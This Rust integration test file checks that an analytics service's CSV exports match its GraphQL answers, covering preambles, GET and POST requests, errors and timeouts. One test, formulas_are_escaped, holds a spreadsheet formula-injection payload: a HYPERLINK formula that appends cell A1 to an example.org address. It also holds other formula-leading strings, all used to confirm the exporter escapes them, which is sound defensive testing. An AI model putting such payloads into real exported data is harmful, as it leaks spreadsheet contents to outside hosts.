//! Answers as CSV files, compared with GraphQL.

use std::sync::Arc;
use std::time::Duration;

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use jsonwebtoken::{Algorithm, DecodingKey};
use serde_json::{Value, json};
use wayin::app::App;
use wayin::auth::jwt::TokenVerifier;
use wayin::clock::SystemClock;
use wayin::pattern::engine::{EngineSettings, PatternEngine};

use crate::support::answer_tables::{
    CITATION_FIELDS, COUNTS, DISCLOSURE_FIELDS, ParsedCsvFile, Row, SUPPRESSED_FIELDS, assert_cell,
    assert_head, assert_records, assert_rounded, assert_same, assert_suppressed, create_readers,
    download_csv, list_records, places_csv, query_graphql, round_percent, short_funding_filter,
    skipped_ambitions_filter, start_with_mixed_visibility, with_scope,
};
use crate::support::app::{AUDIENCE, ISSUER, SECRET, TestApp, sign_token};
use crate::support::builders::record;
use crate::support::http::{export_address, get, send};
use crate::support::{Database, tests_on_both_databases};

tests_on_both_databases![
    pattern_csv_matches_graphql,
    grid_distribution_and_flow_csv_match_graphql,
    associations_csv_matches_graphql,
    csv_preamble_has_citation_data,
    csv_has_a_preamble_only_if_asked,
    csv_works_over_post_and_get,
    formulas_are_escaped,
    csv_errors_match_graphql_errors,
    csv_query_timeout_is_reported,
];

const FILES: [&str; 5] = ["pattern", "grid", "distribution", "flows", "associations"];

fn post_request(file: &str, kind: &str, body: String) -> Request<Body> {
    Request::post(format!("/export/{file}.csv"))
        .header(header::CONTENT_TYPE, kind)
        .header(header::AUTHORIZATION, format!("Bearer {}", sign_token("steward")))
        .body(Body::from(body))
        .unwrap()
}

fn round_ratio(ratio: f64) -> f64 {
    format!("{ratio:.2}").parse().unwrap()
}

fn round_p_value(p_value: f64) -> f64 {
    format!("{p_value:.2e}").parse().unwrap()
}

/// Asserts that the rows of a table have the counts of each kind of records and their suppression, and that the row
/// that is used for comparison has the measures. Returns this row.
fn assert_tables<'a>(rows: &'a [Row], answer: &Value, expected: &Value) -> &'a Row {
    let mut compared = None;
    let records = list_records(answer);
    assert_eq!(rows.len(), records.len());
    for (row, records) in rows.iter().zip(records) {
        let is_readable = *records == "readable";
        let counts = &expected[if is_readable { "visibleTable" } else { "table" }];
        for (field, column) in COUNTS {
            assert_cell(row, column, &counts[field]);
        }
        if assert_records(row, records, &expected["basis"]) {
            assert_measures(row, expected);
            compared = Some(row);
        }
        assert_rates(row);
        let of_answer = &expected["disclosure"]["suppressed"];
        let suppressed = expected.get("suppressed").unwrap_or(of_answer);
        assert_suppressed(row, if is_readable { &Value::Null } else { suppressed });
    }
    compared.expect("a row is used for comparison")
}

fn assert_measures(row: &Row, expected: &Value) {
    for (figure, name, unit) in [
        ("rateWhen", "rate with first", " (%)"),
        ("rateOtherwise", "rate of the rest", " (%)"),
        ("riskDifference", "difference", " (points)"),
        ("riskRatio", "risk ratio", ""),
        ("oddsRatio", "odds ratio", ""),
    ] {
        let round = if unit.is_empty() {
            round_ratio
        } else {
            round_percent
        };
        for (end, part) in [("", "value"), (" lower", "lower"), (" upper", "upper")] {
            assert_rounded(row, &format!("{name}{end}{unit}"), &expected[figure][part], round);
        }
    }
    assert_rounded(row, "phi", &expected["phi"], round_ratio);
}

/// Asserts that the rates of a row are those of its counts.
fn assert_rates(row: &Row) {
    for (part, rest, rate) in [
        ("both", "first only", "rate with first (%)"),
        ("second only", "neither", "rate of the rest (%)"),
    ] {
        let [part, rest] = [part, rest].map(|column| row[column].parse::<f64>());
        match (part, rest) {
            (Ok(part), Ok(rest)) if part + rest > 0.0 => {
                assert_rounded(row, rate, &json!(part / (part + rest)), round_percent);
            }
            _ => assert_eq!(row[rate], "", "{row:?}"),
        }
    }
}

const MEASURE_FIELDS: &str =
    "table { population both whenOnly thenOnly neither unknown whenUnknown thenUnknown }
    visibleTable { population both whenOnly thenOnly neither unknown whenUnknown thenUnknown } basis
    rateWhen { value lower upper } rateOtherwise { value lower upper } riskDifference { value lower upper }
    riskRatio { value lower upper } oddsRatio { value lower upper } phi";

/// Asserts that the preamble has the number of unknown answers for each reason, for each kind of records.
fn assert_unknown_reasons(file: &ParsedCsvFile, expected: &Value) {
    let reasons = expected["unknownReasons"].as_array().unwrap();
    let records = list_records(expected);
    let lines: Vec<&(String, String)> = file
        .head
        .iter()
        .filter(|(name, _)| name.starts_with("unknown because "))
        .collect();
    assert_eq!(lines.len(), reasons.len() * records.len(), "{:?}", file.head);
    for (lines, reason) in lines.chunks(records.len()).zip(reasons) {
        for ((name, count), records) in lines.iter().zip(records) {
            assert!(name.ends_with(&format!(", {records} records")), "{name}");
            let field = if *records == "all" {
                "count"
            } else {
                "visibleCount"
            };
            assert_same(count, &reason[field], |number| number, name);
        }
    }
}

/// Asserts that the preamble has the adjusted estimates. Returns whether there are any.
fn assert_adjusted(file: &ParsedCsvFile, adjusted: &Value) -> bool {
    if adjusted.is_null() {
        let mut names = file.head.iter().map(|(name, _)| name);
        assert!(!names.any(|name| name.starts_with("adjusted")), "{:?}", file.head);
        return false;
    }
    for (figure, name) in [("riskRatio", "risk ratio"), ("oddsRatio", "odds ratio")] {
        for (end, part) in [("", "value"), (" lower", "lower"), (" upper", "upper")] {
            let name = format!("adjusted {name}{end}");
            assert_same(
                file.head_value(&name),
                &adjusted[figure][part],
                round_ratio,
                &name,
            );
        }
    }
    assert_same(
        file.head_value("adjusted p-value"),
        &adjusted["test"]["pValue"],
        round_p_value,
        "adjusted p-value",
    );
    true
}

async fn pattern_csv_matches_graphql(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let query = format!(
        "query($when: InitiativeFilter!, $then: InitiativeFilter!, $among: InitiativeFilter, $by: Dimension,
             $scope: RecordScope!) {{
           pattern(when: $when, then: $then, among: $among, by: $by, scope: $scope) {{
             summary {{ text }} unknownReasons {{ reason count visibleCount }} {MEASURE_FIELDS} pValue conditionalOddsRatio {CITATION_FIELDS} {DISCLOSURE_FIELDS} cautions {{ text }}
             adjusted {{ oddsRatio {{ value lower upper }} riskRatio {{ value lower upper }} test {{ pValue }} }}
             groups(first: 100) {{ totalCount nodes {{ key label {MEASURE_FIELDS} {SUPPRESSED_FIELDS} }} }} }} }}"
    );
    let (when, then) = (short_funding_filter(), skipped_ambitions_filter());
    let (mut suppressed, mut adjusted) = (0, 0);
    for reader in create_readers(&app).await {
        for over in ["ALL", "VISIBLE"] {
            for parameters in [
                json!({"when": when, "then": then}),
                json!({"when": when, "then": then, "by": "PLACE"}),
                json!({"when": when, "then": then, "by": "WAY_IN"}),
                json!({"when": {}, "then": then, "by": "REGION",
                    "among": {"place": {"within": {"code": "E12000001"}}}}),
            ] {
                let parameters = with_scope(&parameters, over);
                let expected = &query_graphql(&reader, &query, &parameters).await["pattern"];
                let file = download_csv(&app, &reader, "pattern", &parameters).await;
                assert_head(&file, expected);
                assert_eq!(file.head_value("summary"), expected["summary"]["text"]);
                let records = list_records(expected);
                assert_unknown_reasons(&file, expected);
                adjusted += usize::from(assert_adjusted(&file, &expected["adjusted"]));
                let (total, rows) = file.rows.split_at(records.len());
                for row in total {
                    assert_eq!([&row["part"], &row["group"], &row["key"]], ["total", "All", ""]);
                }
                let compared = assert_tables(total, expected, expected);
                assert_rounded(compared, "p-value", &expected["pValue"], round_p_value);
                assert_rounded(
                    compared,
                    "conditional odds ratio",
                    &expected["conditionalOddsRatio"],
                    round_ratio,
                );
                let none = Vec::new();
                let groups = expected["groups"]["nodes"].as_array().unwrap_or(&none);
                assert_eq!(rows.len(), groups.len() * records.len());
                for (rows, group) in rows.chunks(records.len()).zip(groups) {
                    assert_tables(rows, expected, group);
                    for row in rows {
                        assert_eq!([&row["part"], &row["p-value"]], ["group", ""]);
                        assert_cell(row, "group", &group["label"]);
                        assert_cell(row, "key", &group["key"]);
                        suppressed += usize::from(row["both"].is_empty());
                    }
                }
            }
        }
    }
    assert!(suppressed > 0, "some counts are suppressed");
    assert!(adjusted > 0, "some answers have adjusted measures");
}

async fn grid_distribution_and_flow_csv_match_graphql(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let arguments = "$among: InitiativeFilter, $scope: RecordScope!";
    let grid = format!(
        "query($rows: Dimension!, $columns: Dimension!, {arguments}) {{
           patternGrid(rows: $rows, columns: $columns, among: $among, scope: $scope) {{
             rows {{ key label }} columns {{ key label }} population illustrative basis {CITATION_FIELDS} {DISCLOSURE_FIELDS}
             cautions {{ text }} cells {{ row column count visibleCount expected residual suppressed }} }} }}"
    );
    let distribution = format!(
        "query($of: Dimension!, {arguments}) {{ distribution(of: $of, among: $among, scope: $scope) {{
           bins {{ key label count visibleCount illustrative {SUPPRESSED_FIELDS} }} basis {CITATION_FIELDS} {DISCLOSURE_FIELDS}
           cautions {{ text }} }} }}"
    );
    let flows = format!(
        "query($perspective: Perspective, {arguments}) {{
           entryPointFlows(perspective: $perspective, among: $among, scope: $scope) {{
             flows {{ perspective from to count visibleCount illustrative {SUPPRESSED_FIELDS} }} basis {CITATION_FIELDS} {DISCLOSURE_FIELDS}
             cautions {{ text }} }} }}"
    );
    for reader in create_readers(&app).await {
        for over in ["ALL", "VISIBLE"] {
            let parameters = json!({"rows": "PLACE", "columns": "CHALLENGE_AMBITIONS", "scope": over});
            let expected = &query_graphql(&reader, &grid, &parameters).await["patternGrid"];
            let found = download_csv(&app, &reader, "grid", &parameters).await;
            assert_head(&found, expected);
            assert_eq!(found.head_value("population"), expected["population"].to_string());
            let records = list_records(expected);
            let cells = expected["cells"].as_array().unwrap();
            assert_eq!(found.rows.len(), cells.len() * records.len());
            for (rows, cell) in found.rows.chunks(records.len()).zip(cells) {
                for (row, records) in rows.iter().zip(records) {
                    assert_grid_cell(row, records, expected, cell);
                }
            }
            let among = short_funding_filter();
            for (name, field, list, query, parameters) in [
                (
                    "distribution",
                    "distribution",
                    "bins",
                    &distribution,
                    json!({"of": "PLACE"}),
                ),
                (
                    "distribution",
                    "distribution",
                    "bins",
                    &distribution,
                    json!({"of": "FUNDING_DURATION_BAND", "among": among}),
                ),
                (
                    "flows",
                    "entryPointFlows",
                    "flows",
                    &flows,
                    json!({"among": among}),
                ),
                (
                    "flows",
                    "entryPointFlows",
                    "flows",
                    &flows,
                    json!({"perspective": "PRACTITIONER"}),
                ),
            ] {
                let parameters = with_scope(&parameters, over);
                let expected = &query_graphql(&reader, query, &parameters).await[field];
                let found = download_csv(&app, &reader, name, &parameters).await;
                assert_head(&found, expected);
                let records = list_records(expected);
                let counted = expected[list].as_array().unwrap();
                assert_eq!(found.rows.len(), counted.len() * records.len());
                for (rows, one) in found.rows.chunks(records.len()).zip(counted) {
                    for (row, records) in rows.iter().zip(records) {
                        assert_records(row, records, &expected["basis"]);
                        assert_count(row, records, one);
                    }
                }
            }
        }
    }
}

/// Asserts that a row has the names, keys and figures of a cell of a grid.
fn assert_grid_cell(row: &Row, records: &str, grid: &Value, cell: &Value) {
    for (heading, list) in [("row", "rows"), ("column", "columns")] {
        let at = usize::try_from(cell[heading].as_u64().unwrap()).unwrap();
        assert_cell(row, heading, &grid[list][at]["label"]);
        assert_cell(row, &format!("{heading} key"), &grid[list][at]["key"]);
    }
    if assert_records(row, records, &grid["basis"]) {
        for figure in ["expected", "residual"] {
            assert_rounded(row, figure, &cell[figure], round_ratio);
        }
    }
    let is_all = records == "all";
    assert_cell(
        row,
        "initiatives",
        &cell[if is_all { "count" } else { "visibleCount" }],
    );
    let is_suppressed = is_all && !cell["suppressed"].is_null();
    assert_eq!(
        row["suppressed"],
        if is_suppressed { "initiatives" } else { "" },
        "{row:?}"
    );
}

/// Asserts that a row has the names, keys and counts of a bin or a flow.
fn assert_count(row: &Row, records: &str, expected: &Value) {
    for (column, field) in [
        ("group", "label"),
        ("key", "key"),
        ("perspective key", "perspective"),
        ("from key", "from"),
    ] {
        if row.contains_key(column) {
            assert_cell(row, column, &expected[field]);
        }
    }
    if let Some(to) = row.get("to key") {
        assert_eq!(to, expected["to"].as_str().unwrap_or("STAYED"));
        assert_eq!(row["to"] == "Stayed", expected["to"].is_null(), "{row:?}");
    }
    if records == "all" {
        assert_cell(row, "initiatives", &expected["count"]);
        assert_cell(row, "illustrative", &expected["illustrative"]);
        assert_suppressed(row, &expected["suppressed"]);
    } else {
        assert_cell(row, "initiatives", &expected["visibleCount"]);
        assert_suppressed(row, &Value::Null);
    }
}

async fn associations_csv_matches_graphql(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let query = format!(
        "query($conditions: [NamedCondition!]!, $among: InitiativeFilter, $scope: RecordScope!) {{
           associations(conditions: $conditions, among: $among, scope: $scope) {{
             pairs {{ when then {MEASURE_FIELDS} pValue qValue {SUPPRESSED_FIELDS} cautions {{ text }} }}
             {CITATION_FIELDS} {DISCLOSURE_FIELDS} cautions {{ text }} }} }}"
    );
    let conditions = json!([
        {"name": "short funding", "condition": short_funding_filter()},
        {"name": "=skipped", "condition": skipped_ambitions_filter()},
        {"name": "came in by collaboration", "condition": {"wayIn": {"in": ["COLLABORATION"]}}},
    ]);
    for reader in create_readers(&app).await {
        for over in ["ALL", "VISIBLE"] {
            let parameters = json!({"conditions": conditions, "scope": over,
                "among": {"place": {"within": {"code": "E12000001"}}}});
            let expected = query_graphql(&reader, &query, &parameters).await;
            let found = download_csv(&app, &reader, "associations", &parameters).await;
            assert_head(&found, &expected["associations"]);
            let answer = &expected["associations"];
            let records = list_records(answer);
            let pairs = answer["pairs"].as_array().unwrap();
            assert_eq!((found.rows.len(), pairs.len()), (3 * records.len(), 3));
            for (rows, pair) in found.rows.chunks(records.len()).zip(pairs) {
                let compared = assert_tables(rows, answer, pair);
                for (column, field) in [("first", "when"), ("second", "then")] {
                    rows.iter().for_each(|row| assert_cell(row, column, &pair[field]));
                }
                for (column, field) in [("p-value", "pValue"), ("q-value", "qValue")] {
                    assert_rounded(compared, column, &pair[field], round_p_value);
                }
                let cautions = pair["cautions"].as_array().unwrap().iter();
                let texts: Vec<&str> = cautions.map(|one| one["text"].as_str().unwrap()).collect();
                assert_eq!(compared["cautions"], texts.join(" "));
            }
            assert_eq!(found.head_values("illustrative").len(), 1);
        }
    }
}

async fn csv_preamble_has_citation_data(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let [steward, _, dashboard] = create_readers(&app).await;
    let (when, then) = (short_funding_filter(), skipped_ambitions_filter());
    let parameters = json!({"when": when, "then": then, "by": "REGION", "minChangeNumber": 1});
    let names = |file: &ParsedCsvFile| {
        let mut names: Vec<String> = file.head.iter().map(|(name, _)| name.clone()).collect();
        names.retain(|name| !name.starts_with("adjusted ") && !name.starts_with("unknown because "));
        names.dedup();
        names
    };
    let exact = download_csv(&app, &steward, "pattern", &parameters).await;
    assert_eq!(
        names(&exact),
        [
            "about",
            "summary",
            "when",
            "then",
            "by",
            "scope",
            "disclosure",
            "as of change",
            "as of date",
            "illustrative",
            "caution",
            "source",
            "licence"
        ]
    );
    assert_eq!(exact.head_value("when"), when.to_string());
    assert_eq!(exact.head_value("by"), "REGION");
    assert_eq!(exact.head_value("illustrative"), "6");
    assert!(
        exact.head_value("source").starts_with("Wayin "),
        "{}",
        exact.head_value("source")
    );
    assert_eq!(exact.head_value("licence"), "CC-BY-4.0");
    let controlled = download_csv(&app, &dashboard, "pattern", &parameters).await;
    assert!(names(&controlled).contains(&"hidden records as of date".to_owned()));
    for (name, parameters, asked) in [
        ("grid", json!({"rows": "PLACE", "columns": "WAY_IN"}), "rows"),
        ("distribution", json!({"of": "PLACE"}), "of"),
        ("flows", json!({"perspective": "FUNDER"}), "perspective"),
    ] {
        let file = download_csv(&app, &steward, name, &parameters).await;
        assert_eq!(file.head_value(asked), parameters[asked]);
        assert!(!file.head_values("caution").is_empty());
    }
}

async fn csv_has_a_preamble_only_if_asked(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let steward = app.steward().await;
    let download = async |asked: Option<bool>| {
        let mut parameters = json!({"of": "REGION"});
        if let Some(asked) = asked {
            parameters["preamble"] = json!(asked);
        }
        let address = export_address("distribution", &parameters);
        let (status, _, by_get) = send(&app.app, get(&address, steward.authorization.as_deref())).await;
        assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&by_get));
        let request = post_request("distribution", "application/json", parameters.to_string());
        let (_, _, by_post) = send(&app.app, request).await;
        assert_eq!(by_post, by_get);
        String::from_utf8(by_get).unwrap()
    };
    let plain = download(None).await;
    let header = "\u{feff}group,key,records,use for comparison,initiatives,illustrative,suppressed\r\n";
    assert!(plain.starts_with(header), "{plain}");
    assert_eq!(download(Some(false)).await, plain);
    let with_preamble = download(Some(true)).await;
    assert!(with_preamble.starts_with("\u{feff}about,"), "{with_preamble}");
    let (_, table) = with_preamble.split_once("\r\n\r\n").unwrap();
    assert_eq!(plain.strip_prefix('\u{feff}'), Some(table));
}

async fn csv_works_over_post_and_get(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let steward = app.steward().await;
    let conditions = json!([
        {"name": "a", "condition": short_funding_filter()}, {"name": "b", "condition": skipped_ambitions_filter()}
    ]);
    for (name, parameters) in FILES.into_iter().zip([
        json!({"when": short_funding_filter(), "then": skipped_ambitions_filter(), "by": "PLACE", "minChangeNumber": 1}),
        json!({"rows": "REGION", "columns": "WAY_IN", "among": short_funding_filter()}),
        json!({"of": "REGION", "scope": "VISIBLE"}),
        json!({"perspective": "PRACTITIONER"}),
        json!({"conditions": conditions}),
    ]) {
        let by_get = get(
            &export_address(name, &parameters),
            steward.authorization.as_deref(),
        );
        let (status, _, by_get) = send(&app.app, by_get).await;
        let mut with_null = parameters.clone();
        if parameters.get("among").is_none() {
            with_null["among"] = Value::Null;
        }
        let body = with_null.to_string();
        let (_, _, by_post) = send(&app.app, post_request(name, "application/json; charset=utf-8", body)).await;
        assert_eq!(status, StatusCode::OK, "{}", String::from_utf8_lossy(&by_get));
        assert_eq!(
            String::from_utf8_lossy(&by_post),
            String::from_utf8_lossy(&by_get)
        );
    }
}

async fn formulas_are_escaped(database: Database) {
    let app = TestApp::start(database).await;
    app.import_places(&places_csv()).await;
    let formula = "=HYPERLINK(\"https://example.org/?\"&A1,\"more\")";
    app.publish(&[record("1")
        .in_place("E06000001")
        .with(
            "leadOrganisation",
            json!({"identifier": "GB-CHC-7", "name": formula}),
        )
        .build()])
        .await;
    let steward = app.steward().await;
    let labels = async |of: &str| {
        let file = download_csv(&app, &steward, "distribution", &json!({"of": of})).await;
        file.rows
            .iter()
            .map(|row| row["group"].clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        labels("REGION").await,
        ["'=North East", "North West", "West Midlands", "Not known"]
    );
    assert_eq!(
        labels("LEAD_ORGANISATION").await,
        [format!("'{formula}"), "Not known".to_owned()]
    );
    let names = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"];
    let conditions: Vec<Value> = names
        .iter()
        .map(|name| json!({"name": name, "condition": {"title": {"contains": name}}}))
        .collect();
    let file = download_csv(&app, &steward, "associations", &json!({"conditions": conditions})).await;
    for row in &file.rows {
        for column in ["first", "second"] {
            let name = row[column].strip_prefix('\'').expect("a mark before it");
            assert!(names.contains(&name), "{name:?}");
        }
        // A negative number is not escaped as a formula.
        let difference = &row["difference (points)"];
        assert!(difference.is_empty() || difference.parse::<f64>().is_ok());
    }
    for (_, text) in &file.head {
        assert!(!text.starts_with(['=', '+', '-', '@', '\t', '\r']), "{text:?}");
    }
}

/// The message and the code of an error.
fn parse_error(body: &[u8]) -> (String, String) {
    let answer: Value = serde_json::from_slice(body)
        .unwrap_or_else(|error| panic!("{}: {error}", String::from_utf8_lossy(body)));
    let error = &answer["errors"][0];
    let text = |value: &Value| {
        value
            .as_str()
            .unwrap_or_else(|| panic!("no error in {answer}"))
            .to_owned()
    };
    (text(&error["message"]), text(&error["extensions"]["code"]))
}

/// A condition on more answers than one question can be about under disclosure control: as JSON, and as GraphQL.
fn four_answers() -> (Value, String) {
    let challenges = [
        "DEFINING_AMBITIONS",
        "UNDERSTANDING_LOCAL_SYSTEM",
        "FOSTERING_CONDITIONS",
    ];
    let change = json!({"condition": {"on": "GOVERNANCE", "change": {"eq": "ALTERED"}}});
    let steps = challenges.map(|of| json!({"challenge": {"on": of, "step": {"in": ["SKIPPED"]}}}));
    let in_query = challenges.map(|of| format!("{{challenge: {{on: {of}, step: {{in: [SKIPPED]}}}}}}"));
    let all: Vec<Value> = steps.into_iter().chain([change]).collect();
    let in_query = in_query.join(", ");
    (
        json!({"and": all}),
        format!("{{and: [{in_query}, {{condition: {{on: GOVERNANCE, change: {{eq: ALTERED}}}}}}]}}"),
    )
}

async fn csv_errors_match_graphql_errors(database: Database) {
    let app = start_with_mixed_visibility(database).await;
    let [steward, _, dashboard] = create_readers(&app).await;
    for name in FILES {
        let (status, headers, body) = send(&app.app, get(&format!("/export/{name}.csv"), None)).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        assert_eq!(headers[header::WWW_AUTHENTICATE], "Bearer");
        let output = app.anonymous().query_error("{ viewer { role } }").await;
        assert_eq!(parse_error(&body), output);
    }
    let among = r#"{"startedOn":{"gte":"2020-01-01"},"titel":{"eq":"x"}}"#;
    for (path, expected) in [
        ("pattern.csv?then={}", "when: is needed"),
        ("pattern.csv?when={}&then={", "then: \"{\" is not JSON; "),
        ("pattern.csv?when=1&then={}", "when: "),
        (
            "pattern.csv?when={}&then={}&rows=PLACE",
            "rows: this file has no such parameter; it has when, then, among, by, scope, minChangeNumber, preamble",
        ),
        (
            "pattern.csv?when={}&then={}&preamble=yes",
            "preamble: is neither true nor false",
        ),
        (
            "pattern.csv?when={}&then={}&when={}",
            "when: is given more than once",
        ),
        ("pattern.csv?when={}&then={}&by=TOWN", "by: "),
        ("pattern.csv?when={}&then={}&scope=NONE", "scope: "),
        (
            "pattern.csv?when={}&then={}&minChangeNumber=last",
            "minChangeNumber: is not a whole number",
        ),
        (
            "pattern.csv?when={}&then={\"title\":{}}",
            "then.title: says nothing to compare with",
        ),
        (
            "grid.csv?rows=PLACE&columns=REGION&among=AMONG",
            "among.titel: is not a field",
        ),
        ("grid.csv?rows=PLACE", "columns: is needed"),
        ("distribution.csv?among={}", "of: is needed"),
        ("distribution.csv?of=PLACE&first=1", "first: "),
        ("flows.csv?perspective=NOBODY", "perspective: "),
        ("associations.csv?conditions=[]", "conditions: 0 are given"),
        (
            "associations.csv?conditions=[{\"name\":\"a\",\"condition\":{\"x\":1}}]",
            "conditions.0.condition.x: is not a field",
        ),
    ] {
        let path = path.replace("AMONG", among);
        let address = format!(
            "/export/{}",
            path.replace('{', "%7B")
                .replace('}', "%7D")
                .replace('"', "%22")
                .replace('[', "%5B")
                .replace(']', "%5D")
        );
        let (status, headers, body) = send(&app.app, get(&address, steward.authorization.as_deref())).await;
        let (message, code) = parse_error(&body);
        assert_eq!(
            (status, code.as_str()),
            (StatusCode::BAD_REQUEST, "BAD_USER_INPUT"),
            "{path}: {message}"
        );
        assert!(message.starts_with(expected), "{path}: {message}");
        assert_eq!(headers[header::CACHE_CONTROL], "no-store");
        assert_eq!(headers[header::CONTENT_TYPE], "application/json");
    }
    let (when, when_in_query) = four_answers();
    let address = export_address("pattern", &json!({"when": when, "then": {}}));
    let (status, _, body) = send(&app.app, get(&address, dashboard.authorization.as_deref())).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    let output = dashboard
        .query_error(&format!(
            "{{ pattern(when: {when_in_query}, then: {{}}) {{ summary {{ text }} }} }}"
        ))
        .await;
    assert_eq!(
        (parse_error(&body), output.1.as_str()),
        (output.clone(), "DISCLOSURE_CONTROL")
    );
    assert_body_errors(&app).await;
}

/// Asserts the errors of parameters in a body.
async fn assert_body_errors(app: &TestApp) {
    let whole = json!({"of": "PLACE"}).to_string();
    let long = format!("{{\"of\": \"{}\"}}", "x".repeat(300 * 1024));
    for (kind, body, expected) in [
        ("text/plain", whole.clone(), StatusCode::UNSUPPORTED_MEDIA_TYPE),
        ("application/json", "[]".into(), StatusCode::BAD_REQUEST),
        ("application/json", "{\"of\": 1}".into(), StatusCode::BAD_REQUEST),
        (
            "application/json",
            "{\"of\": \"PLACE\", \"preamble\": \"yes\"}".into(),
            StatusCode::BAD_REQUEST,
        ),
        ("application/json", long, StatusCode::PAYLOAD_TOO_LARGE),
    ] {
        let (status, _, body) = send(&app.app, post_request("distribution", kind, body)).await;
        assert_eq!(
            (status, parse_error(&body).1.as_str()),
            (expected, "BAD_USER_INPUT"),
            "{kind}"
        );
    }
    let put = Request::put("/export/grid.csv").body(Body::empty()).unwrap();
    assert_eq!(send(&app.app, put).await.0, StatusCode::METHOD_NOT_ALLOWED);
}

async fn csv_query_timeout_is_reported(database: Database) {
    let app = TestApp::start(database).await;
    let steward = app.steward().await;
    let over = |settings: EngineSettings| {
        let key = DecodingKey::from_secret(SECRET);
        let verifier = TokenVerifier::new(Algorithm::HS256, key, ISSUER, AUDIENCE);
        let engine = Arc::new(PatternEngine::new(settings).unwrap());
        Arc::new(App::new(
            app.app.db.clone(),
            verifier,
            Arc::new(SystemClock),
            engine,
        ))
    };
    let request = |address: &str| get(address, steward.authorization.as_deref());
    let address = "/export/distribution.csv?of=PLACE";
    let (status, _, body) = send(&over(EngineSettings::default()), request(address)).await;
    assert_eq!(
        (status, parse_error(&body).1.as_str()),
        (StatusCode::SERVICE_UNAVAILABLE, "NOT_READY")
    );
    // The query waits for a change that never comes, until its deadline.
    let late = over(EngineSettings {
        deadline: Duration::from_millis(50),
        ..EngineSettings::default()
    });
    late.engine.catch_up(&late.db, &|_| ()).await.unwrap();
    let (status, _, body) = send(&late, request(&format!("{address}&minChangeNumber=1000"))).await;
    assert_eq!(
        (status, parse_error(&body).1.as_str()),
        (StatusCode::GATEWAY_TIMEOUT, "QUERY_TIMEOUT")
    );
    // If the requester cannot be identified, the request fails.
    app.app.db.close_by_ref().await.unwrap();
    let (status, _, body) = send(&app.app, request(address)).await;
    assert_eq!(
        (status, parse_error(&body).1.as_str()),
        (StatusCode::SERVICE_UNAVAILABLE, "INTERNAL")
    );
}
